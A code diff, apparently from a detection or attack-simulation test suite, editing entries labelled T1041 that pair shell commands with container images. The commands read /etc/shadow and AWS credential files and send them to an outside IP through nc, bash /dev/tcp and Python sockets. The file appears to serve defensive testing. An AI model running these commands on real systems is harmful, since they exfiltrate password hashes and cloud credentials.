@@ -495,7 +495,8 @@ _p("shadow read then sent with nc", "T1041",
    "cat /etc/shadow > /tmp/s; nc -w 1 10.1.2.3 443 < /tmp/s; true", (BUSYBOX,),
    "credentials exfiltrated over a raw connection")
 _p("shadow sent through bash /dev/tcp", "T1041",
-   "timeout 3 bash -c 'cat /etc/shadow > /dev/tcp/10.1.2.3/443' 2>/dev/null; true", (DEBIAN,),
+   "timeout 3 bash -c 'd=$(cat /etc/shadow); echo \"$d\" > /dev/tcp/10.1.2.3/443' 2>/dev/null;"
+   " true", (DEBIAN,),
    "exfiltration with bash alone")
 _p("aws credentials read then posted by python", "T1041",
    "base64 /root/.aws/credentials > /tmp/c; python3 -c 'import socket\n"
